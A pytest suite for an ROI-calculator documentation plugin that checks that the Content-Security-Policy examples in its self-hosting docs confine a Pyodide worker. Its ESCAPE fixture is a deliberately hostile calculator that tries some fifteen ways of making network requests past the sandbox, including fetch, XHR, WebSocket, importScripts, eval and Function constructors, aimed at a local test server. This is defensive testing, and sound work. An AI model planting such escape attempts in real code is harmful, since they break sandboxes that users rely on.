"""The policies that the docs print: the calculator works under them, and Python reaches nothing."""

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from support.browsers import (
    PlaywrightTab,
    Tab,
    serve_cdn_from_npm,
    wait_for_output,
    wait_for_state,
    wait_until,
)
from support.sites import (
    ROOT,
    Served,
    build_with_changed_python,
    served,
)

FIELD = "roi-calculator input[name=requests]"
DOCS = (ROOT / "docs" / "en" / "self-hosting.md").read_text("utf-8")
POLICY = "Content-Security-Policy"
# A theme with nothing inline, for the tightest policies.
CONFIG = """
site_name: Test
theme: {name: null, custom_dir: theme, locale: en}
extra_javascript: [errors.js]
plugins: [roi-calculator: {pyodide: PYODIDE}]
"""
THEME = """<!doctype html><html lang="en"><head><meta charset="utf-8">META<title>Test</title>
{% for path in extra_css %}<link rel="stylesheet" href="{{ path }}">{% endfor %}
{% for script in config.extra_javascript %}{{ script | script_tag }}{% endfor %}
</head><body>{{ page.content }}</body></html>
"""
ERRORS = """
window.violations = [];
addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(`${event.violatedDirective} ${event.blockedURI}`);
});
"""
PAGE = "# Page\n\n```roi-calculator\n```\n"
# A calculator that tries every way out that it can think of, once asked for seven requests.
ESCAPE = """
_calm = evaluate
_ELSEWHERE = "ELSEWHERE"

def evaluate(request):
    if request["values"]["requests"] == "7":
        _escape()
    return _calm(request)

def _escape():
    import js
    from pyodide.code import run_js
    from pyodide.http import pyfetch
    from pyodide.ffi import to_js
    call = f"fetch('{_ELSEWHERE}/text', {{mode: 'no-cors'}})"
    module = to_js({"type": "module"}, dict_converter=js.Object.fromEntries)
    def ask():
        request = js.XMLHttpRequest.new()
        request.open("GET", f"{_ELSEWHERE}/xhr", False)
        request.send()
    ways = [
        lambda: js.fetch(f"{_ELSEWHERE}/fetch"),
        lambda: js.Object.getPrototypeOf(js.self).fetch(f"{_ELSEWHERE}/inherited"),
        lambda: pyfetch(f"{_ELSEWHERE}/pyfetch").send(None),
        ask,
        lambda: js.WebSocket.new(_ELSEWHERE.replace("http", "ws")),
        lambda: js.EventSource.new(f"{_ELSEWHERE}/events"),
        lambda: js.importScripts(f"{_ELSEWHERE}/script.js"),
        lambda: js.Worker.new(f"{_ELSEWHERE}/worker.js", module),
        lambda: js.FontFace.new("x", f"url({_ELSEWHERE}/font)").load(),
        lambda: js.eval(call),
        lambda: js.Function.new(call)(),
        lambda: js.Function.prototype.constructor.new(call)(),
        lambda: js.setTimeout(call, 0),
        lambda: run_js(call),
        lambda: js.caches.open("x").then(lambda cache: cache.add(f"{_ELSEWHERE}/cache")),
    ]
    for way in ways:
        try:
            way()
        except BaseException:
            pass
"""


def _printed(title: str) -> list[str]:
    """Return the policies in the docs' section of this title, in order."""
    section = DOCS.partition(f"## {title}\n")[2].partition("\n## ")[0]
    return re.findall(r'(?:Policy:? "?|content=")(default-src [^"\n]+)', section)


def _built(folder: Path, elsewhere: str, pyodide: str = "self", meta: str = "") -> Path:
    theme = folder / "theme"
    theme.mkdir()
    tag = f'<meta http-equiv="{POLICY}" content="{meta}">' if meta else ""
    (theme / "main.html").write_text(THEME.replace("META", tag), "utf-8")
    site = build_with_changed_python(
        folder,
        CONFIG.replace("PYODIDE", pyodide),
        PAGE,
        ESCAPE.replace('"ELSEWHERE"', repr(elsewhere)),
    )
    (site / "errors.js").write_text(ERRORS, "utf-8")
    return site


def _open_the_fence(site: Path) -> None:
    """Take away what the worker itself closes, so that the policy stands alone."""
    (worker,) = site.glob("assets/roi-calculator/*/python/worker.js")
    text = worker.read_text("utf-8")
    opened = text.replace("\ncloseNetwork();\n", "\n")
    assert opened != text
    worker.write_text(opened, "utf-8")


def _tries_to_escape(tab: Tab, url: str) -> None:
    tab.open(url)
    wait_for_state(tab)
    assert tab.evaluate("return window.violations") == []
    tab.replace(FIELD, "7")
    wait_for_output(tab, "net_saving", "-360")
    tab.replace(FIELD, "250")
    wait_for_output(tab, "net_saving", "4500")
    # What could still be on its way has had its time.
    tab.evaluate("setTimeout(() => { window.isLater = true; }, 500)")
    wait_until(tab, "window.isLater")


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[Served]:
    """Another server: what a calculator has no business with."""
    (tmp_path / "elsewhere").mkdir()
    with served(tmp_path / "elsewhere", {"Access-Control-Allow-Origin": "*"}) as serving:
        yield serving


def test_python_gets_out_where_nothing_is_closed(
    tab: Tab, elsewhere: Served, tmp_path: Path
) -> None:
    """The attempts are real: without this test the others would prove nothing."""
    site = _built(tmp_path, elsewhere.url)
    _open_the_fence(site)
    with served(site) as serving:
        _tries_to_escape(tab, f"{serving.url}/")
    asked = {request.path for request in elsewhere.requests}
    assert {"/xhr", "/events"} <= asked


def test_python_reaches_nothing_even_without_a_policy(
    tab: Tab, elsewhere: Served, tmp_path: Path
) -> None:
    with served(_built(tmp_path, elsewhere.url)) as serving:
        _tries_to_escape(tab, f"{serving.url}/")
    assert elsewhere.requests == []


@pytest.mark.parametrize("title", ["nginx", "Cloudflare Pages", "Netlify"])
def test_the_printed_policy_lets_the_calculator_work_and_python_reach_nothing(
    title: str, tab: Tab, elsewhere: Served, tmp_path: Path
) -> None:
    page, *worker = _printed(title)
    site = _built(tmp_path, elsewhere.url)
    _open_the_fence(site)
    with served(site) as serving:
        serving.headers["index.html"] = {POLICY: page}
        serving.headers["worker.js"] = {POLICY: worker[0] if worker else page}
        _tries_to_escape(tab, f"{serving.url}/")
    assert elsewhere.requests == []


def test_a_policy_in_the_pages_head_confines_python_where_no_header_can(
    tab: Tab, elsewhere: Served, tmp_path: Path
) -> None:
    (meta,) = _printed("GitHub Pages")
    site = _built(tmp_path, elsewhere.url, meta=meta)
    _open_the_fence(site)
    with served(site) as serving:
        _tries_to_escape(tab, f"{serving.url}/")
    assert elsewhere.requests == []


def test_the_rules_for_the_worker_alone_are_for_where_it_lies(site_folder: Path) -> None:
    (worker,) = site_folder.rglob("worker.js")
    address = f"/{worker.relative_to(site_folder).as_posix()}"
    (nginx,) = re.findall(r"^location ~ (\S+) {$", DOCS, flags=re.MULTILINE)
    (cloudflare,) = re.findall(r"^(/assets/\S+)$", DOCS, flags=re.MULTILINE)
    assert re.search(nginx, address)
    assert re.fullmatch(cloudflare.replace(":build", "[^/]+"), address)


def test_the_policies_allow_no_text_to_be_run() -> None:
    assert DOCS.count("default-src") >= 5
    assert "'unsafe-eval'" not in re.sub(r"`'unsafe-eval'`", "", DOCS)
    assert "'unsafe-inline'" not in "".join(
        policy for title in ("nginx", "Netlify", "GitHub Pages") for policy in _printed(title)
    )


def test_the_printed_policy_for_the_cdn_allows_just_that(
    tab: Tab, elsewhere: Served, tmp_path: Path
) -> None:
    if not isinstance(tab, PlaywrightTab):
        pytest.skip("WebKitGTK's driver cannot answer for the CDN")
    serve_cdn_from_npm(tab.page.context)
    page, worker = _printed("nginx")
    (allowed,) = re.findall(r"`connect-src ('self' https[^`]+)`", DOCS)
    site = _built(tmp_path, elsewhere.url, pyodide="cdn")
    with served(site) as serving:
        serving.headers["index.html"] = {POLICY: page}
        serving.headers["worker.js"] = {
            POLICY: worker.replace("connect-src 'self'", f"connect-src {allowed}")
        }
        _tries_to_escape(tab, f"{serving.url}/")
    assert elsewhere.requests == []
    assert json.dumps(allowed).count("https://cdn.jsdelivr.net/") == 2
